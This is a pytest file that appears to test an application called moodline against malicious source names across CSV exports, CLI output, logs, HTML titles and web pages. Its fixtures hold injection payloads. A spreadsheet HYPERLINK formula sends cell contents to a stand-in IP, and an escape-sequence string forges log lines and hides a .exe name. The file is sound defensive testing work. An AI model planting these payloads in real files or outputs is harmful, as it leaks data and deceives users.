"""Names that attack a spreadsheet, a terminal, a log or a page's title."""

import csv
import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path

import pytest
from playwright.sync_api import expect

from contracts.settings import Settings
from dashboard.trends.exports.csv_export import _line as trends_line
from records.database import open_engine
from records.schema import upgrade
from serving.backend import Backend
from tests.browser import chromium
from tests.e2e.commands import Installation
from tests.pages import patient_page, serving
from tests.rows import FaceSpec, write_run

FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'
FORMULAS = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1"]
STEERING = "\x1b]0;owned\x07\x1b[2Jmara\n2026-01-01 forged line\r\x9b31m\u202egpm.exe\x7f"
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
LOG_ONE_EVENT = """
import sys
import structlog
from runtime.logs import configure_logs
configure_logs("INFO")
structlog.get_logger().warning("source failed", source=sys.argv[1], reason=sys.argv[1])
"""


@pytest.fixture(scope="module")
def moodline(tmp_path_factory: pytest.TempPathFactory) -> Installation:
    """An installation with runs of sources of these names."""
    home = tmp_path_factory.mktemp("attack") / "home"
    engine = open_engine(f"sqlite:///{home / 'moodline.db'}")
    upgrade(engine)
    for number, name in enumerate([*FORMULAS, STEERING]):
        write_run(
            engine, f"run-{number}", {n: [FaceSpec(1, "happy")] for n in range(3)}, source=name
        )
    engine.dispose()
    installation = Installation(home)
    assert installation.run("rollups", "rebuild").returncode == 0
    return installation


def test_no_cell_of_an_export_is_a_formula_and_numbers_stay(
    moodline: Installation, tmp_path: Path
) -> None:
    out = tmp_path / "rows.csv"
    assert moodline.run("export", "--out", out).returncode == 0
    with out.open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert {row["source"] for row in rows} >= {f"'{name}".replace("\r", "\\r") for name in FORMULAS}
    assert {row["x"] for row in rows} == {"10.5"}
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row.values() if cell)
    assert len(rows) == 3 * (len(FORMULAS) + 1), "a name began a row"


def test_json_lines_keep_the_names_as_they_are(moodline: Installation, tmp_path: Path) -> None:
    out = tmp_path / "rows.jsonl"
    assert moodline.run("export", "--out", out).returncode == 0
    sources = {json.loads(line)["source"] for line in out.read_text().splitlines()}
    assert sources == {*FORMULAS, STEERING}


def test_the_csv_of_trends_escapes_as_the_export_does() -> None:
    from analytics.export.spreadsheet_text import spreadsheet_text

    assert all(trends_line([spreadsheet_text(name)]).lstrip('"')[0] == "'" for name in FORMULAS)
    assert trends_line([spreadsheet_text("door"), -0.5]) == "door,-0.5\r\n"


@pytest.mark.parametrize(
    "words",
    [
        ("runs", "list"),
        ("runs", "show", f"run-{len(FORMULAS)}"),
        ("status",),
        ("trends", "--last", "3650d"),
        ("source", "show", STEERING),
        ("erase", "--source", STEERING, "--dry-run"),
    ],
)
def test_no_command_sends_a_control_character_of_a_name(
    moodline: Installation, words: tuple[str, ...]
) -> None:
    """The name is shown on one line, with visible escapes."""
    done = moodline.run(*words)
    text = done.stdout + done.stderr
    assert not FORBIDDEN.search(text), repr(text)
    assert "\n2026-01-01 forged" not in text
    assert "mara" in text


def test_a_refused_file_cannot_forge_a_line(moodline: Installation, tmp_path: Path) -> None:
    path = tmp_path / "a\x1b[2J\nrun-9 done\u202e.mp4"
    path.write_bytes(b"not a recording")
    for words in (("analyze", "--no-progress"), ("analyze", "--detach")):
        done = moodline.run(*words, path)
        text = done.stdout + done.stderr
        assert "\\x1b[2J\\nrun-9 done\\u202e" in text.replace("\n", "")
        assert not FORBIDDEN.search(text), repr(text)
        assert "\nrun-9 done" not in text


def test_a_name_cannot_steer_the_terminal_through_the_log() -> None:
    """Given a log on a terminal, each event is one line of printable characters."""
    ours, theirs = pty.openpty()
    name = STEERING.replace("\x00", "")
    done = subprocess.run(
        [sys.executable, "-c", LOG_ONE_EVENT, name], stderr=theirs, check=True, timeout=60
    )
    assert done.returncode == 0
    text = os.read(ours, 65536).decode().replace("\r\n", "\n")
    os.close(ours)
    os.close(theirs)
    assert text.count("\n") == 1 and not FORBIDDEN.search(text), repr(text)


def test_the_title_of_a_report_shows_control_characters(
    moodline: Installation, tmp_path: Path
) -> None:
    done = moodline.run("summary", f"run-{len(FORMULAS)}", "--out", tmp_path)
    assert done.returncode == 0, done.stderr
    (page,) = tmp_path.glob("*.html")
    found = re.search(r"<title>(.*?)</title>", page.read_text(), re.DOTALL)
    assert found is not None
    assert "\\x1b]0;owned" in found[1] and "\n" not in found[1]
    assert not FORBIDDEN.search(found[1])


def test_pages_show_the_control_characters_of_a_name(moodline: Installation) -> None:
    engine = open_engine(f"sqlite:///{moodline.home / 'moodline.db'}")
    with (
        serving(Backend(engine, Settings())) as address,
        chromium() as browser,
        browser.new_context() as viewer,
        patient_page(viewer) as page,
    ):
        for path, first in (
            ("recordings", "tbody tr"),
            ("system", "#services"),
            ("trends?from=2026-01-02T00:00&to=2026-01-03T00:00", "#per-source tbody tr"),
        ):
            page.goto(f"{address}/{path}")
            expect(page.locator(first).first).to_be_visible()
            text = page.locator("body").inner_text()
            assert not FORBIDDEN.search(text.replace("\t", " ")), repr(text)
            if path != "system":
                assert "\\x1b]0;owned" in text and "\\u202egpm.exe" in text
    engine.dispose()


def test_a_traceback_shows_control_characters() -> None:
    raised = (
        "from moodline.cli import _print_traceback\n"
        f"_print_traceback(ValueError, ValueError({STEERING!r}), None)"
    )
    done = subprocess.run(
        [sys.executable, "-c", raised], capture_output=True, check=True, text=True, timeout=60
    )
    assert "\\x1b]0;owned" in done.stderr
    assert not FORBIDDEN.search(done.stderr)
